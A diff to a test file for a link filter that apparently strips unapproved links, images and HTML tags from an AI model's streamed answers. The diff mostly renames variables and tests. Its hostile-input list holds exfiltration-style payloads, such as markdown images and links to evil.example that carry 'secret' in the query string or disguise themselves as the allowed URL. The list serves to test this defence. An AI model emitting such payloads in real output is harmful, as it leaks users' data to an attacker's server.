@@ -1,4 +1,4 @@
-"""What an answer may lead to, however it streams."""
+"""Tests of the link filter."""
 
 from __future__ import annotations
 
@@ -11,14 +11,14 @@ from hypothesis import strategies as st
 
 from mindset.guardrails.links import REMOVED, LinkFilter
 
-KNOWN = "https://docs.example.org/rollback"
+ALLOWED = "https://docs.example.org/rollback"
 PASSAGES = [
-    f'See [how to roll back]({KNOWN}) or https://docs.example.org/other?a=1&amp;b=2, and `<b class="x">` or `<title>`.',
+    f'See [how to roll back]({ALLOWED}) or https://docs.example.org/other?a=1&amp;b=2, and `<b class="x">` or `<title>`.',
     "Write to help@docs.example.org, look at ../guides/a.md, and run `npm i left@1.2.3`.",
 ]
 
 
-def through(*pieces: str) -> tuple[str, set[str]]:
+def filtered(*pieces: str) -> tuple[str, set[str]]:
     links = LinkFilter(PASSAGES)
     return "".join([*map(links.feed, pieces), links.finish()]), links.broken_rules
 
@@ -33,8 +33,8 @@ HOSTILE = [
     "See [this](\\\\evil.example\\x).",
     "See [this](../evil.example/x).",
     "![logo](https://evil.example/pixel.png?q=secret)",
-    f"![logo]({KNOWN})",
-    f"![logo]({KNOWN}?q=secret)",
+    f"![logo]({ALLOWED})",
+    f"![logo]({ALLOWED}?q=secret)",
     "[![logo](https://evil.example/p.png)](https://evil.example)",
     "Go to https://evil.example/x now",
     "Go to HTTPS://EVIL.EXAMPLE/x now",
@@ -68,12 +68,12 @@ HOSTILE = [
     "[x](&#104;ttps://evil.example)",
     "https&colon;//evil.example/x",
     "[x](https:\\\\evil.example)",
-    f"{KNOWN}@evil.example/x is where",
-    f"{KNOWN}.evil.example/x is where",
-    f"{KNOWN}?q=secret",
-    f'{KNOWN}"secret',
-    f"{KNOWN}`secret",
-    f"{KNOWN}(secret)",
+    f"{ALLOWED}@evil.example/x is where",
+    f"{ALLOWED}.evil.example/x is where",
+    f"{ALLOWED}?q=secret",
+    f'{ALLOWED}"secret',
+    f"{ALLOWED}`secret",
+    f"{ALLOWED}(secret)",
     "https://docs.example.org.evil.example/x",
     "https://docs.example.or",
     "[a [b] c](https://evil.example/x)",
@@ -85,17 +85,17 @@ HOSTILE = [
 
 
 @pytest.mark.parametrize("hostile", HOSTILE)
-def test_no_link_image_or_tag_that_no_passage_has_comes_out(hostile: str) -> None:
-    text, broken = through(hostile)
+def test_links_images_and_tags_that_are_not_in_the_passages_are_removed(hostile: str) -> None:
+    text, broken = filtered(hostile)
     assert broken
     assert not re.search(r"evil\.(?:example|com)|secret|docs\.example\.or\b", text, re.IGNORECASE)
     assert not re.search(r"!\[|\]\(|<(?:a|img|script|iframe|svg|div|p)\b|javascript:|data:", text, re.IGNORECASE)
 
 
 @pytest.mark.parametrize(
-    "honest",
+    "harmless",
     [
-        f"It is at {KNOWN}, and [here]({KNOWN}) (see https://docs.example.org/other?a=1&b=2).",
+        f"It is at {ALLOWED}, and [here]({ALLOWED}) (see https://docs.example.org/other?a=1&b=2).",
         "At https://docs.example.org/ or docs.example.org/rollback, or help@docs.example.org.",
         "See [the guide](../guides/a.md) and <https://docs.example.org/rollback>.",
         "Run `mindset rollback docs` [1] and see [2][3].",
@@ -105,13 +105,13 @@ def test_no_link_image_or_tag_that_no_passage_has_comes_out(hostile: str) -> Non
         'Set `<b class="x">` and `<title>`, e.g. `std::vector<int>` or def f(a: int) -> dict[str, int]: ...',
     ],
 )
-def test_honest_text_passes_as_it_is(honest: str) -> None:
-    assert through(honest) == (honest, set())
+def test_harmless_text_is_not_changed(harmless: str) -> None:
+    assert filtered(harmless) == (harmless, set())
 
 
 def test_prose_is_not_held_back() -> None:
     links = LinkFilter(PASSAGES)
-    assert [links.feed(each) for each in ("Owls", " hoot", " at night", ".", " So")] == [
+    assert [links.feed(piece) for piece in ("Owls", " hoot", " at night", ".", " So")] == [
         "Owls",
         " hoot",
         " at night",
@@ -122,16 +122,16 @@ def test_prose_is_not_held_back() -> None:
     assert links.feed("er") == "htter"
 
 
-def test_an_image_is_none_any_more_and_an_exclamation_stays() -> None:
-    assert through("Wow![1]")[0] == "Wow! [1]"
-    assert through("![a logo](https://evil.example/x) it is")[0] == f"! [a logo] {REMOVED} it is"
+def test_image_markup_is_broken_up_and_exclamation_mark_is_kept() -> None:
+    assert filtered("Wow![1]")[0] == "Wow! [1]"
+    assert filtered("![a logo](https://evil.example/x) it is")[0] == f"! [a logo] {REMOVED} it is"
 
 
 TEXTS = st.lists(
     st.sampled_from(
         ["[", "]", "(", ")", "!", "<", ">", " ", "\n", "a", "1", "htt", "ps://", "https://", "evil", ".example", "evil.example",
-         "/x", KNOWN, "www.", "//", ":", "javascript:", "data:a,", "a href=", "img ", ".", "[1]", "](", "words of it ", "@", "\\",
-         "&#104;", "&", "\u200b", "-", "x" * 1_000, "【", "】", '"', "'", "`"]
+         "/x", ALLOWED, "www.", "//", ":", "javascript:", "data:a,", "a href=", "img ", ".", "[1]", "](", "words of it ", "@",
+         "\\", "&#104;", "&", "\u200b", "-", "x" * 1_000, "【", "】", '"', "'", "`"]
     ),
     max_size=24,
 ).map("".join)  # fmt: skip
@@ -140,24 +140,24 @@ TEXTS = st.lists(
 @settings(max_examples=150, deadline=None)
 @given(TEXTS, st.lists(st.integers(0, 4_000), max_size=8))
 @example("x" * 1_995 + "https://evil.example/x", [1_995])
-def test_however_it_is_cut_into_pieces_the_same_comes_out(text: str, at: list[int]) -> None:
-    cuts = [0, *sorted(min(each, len(text)) for each in at), len(text)]
-    assert through(*(text[one:other] for one, other in pairwise(cuts))) == through(text)
-    assert through(*text) == through(text)
+def test_result_does_not_depend_on_the_pieces(text: str, positions: list[int]) -> None:
+    cuts = [0, *sorted(min(position, len(text)) for position in positions), len(text)]
+    assert filtered(*(text[start:end] for start, end in pairwise(cuts))) == filtered(text)
+    assert filtered(*text) == filtered(text)
 
 
 @settings(max_examples=150, deadline=None)
 @given(TEXTS)
-def test_what_comes_out_would_come_out_again(text: str) -> None:
-    out, _ = through(text)
-    again, broken = through(out)
-    assert ("".join(again.split()), broken) == ("".join(out.split()), set())
+def test_filtering_is_idempotent(text: str) -> None:
+    once, _ = filtered(text)
+    twice, broken = filtered(once)
+    assert ("".join(twice.split()), broken) == ("".join(once.split()), set())
 
 
 @settings(max_examples=150, deadline=None)
 @given(TEXTS)
-def test_nothing_that_comes_out_is_a_foreign_link(text: str) -> None:
-    out, _ = through(text)
-    found = re.findall(r"(?:https?:[/\\]*|(?<!\w)www\.|(?<![\w:/])//+)[\w-]+\.\w[^\s<\[\]]*", out, re.IGNORECASE)
-    assert all(each.startswith("https://docs.example.org/") for each in found)
-    assert not re.search(r"!\[|\bjavascript:\S|<img\b[^<>]*=[^<>]*>", out)
+def test_output_contains_no_foreign_link(text: str) -> None:
+    output, _ = filtered(text)
+    links = re.findall(r"(?:https?:[/\\]*|(?<!\w)www\.|(?<![\w:/])//+)[\w-]+\.\w[^\s<\[\]]*", output, re.IGNORECASE)
+    assert all(link.startswith("https://docs.example.org/") for link in links)
+    assert not re.search(r"!\[|\bjavascript:\S|<img\b[^<>]*=[^<>]*>", output)
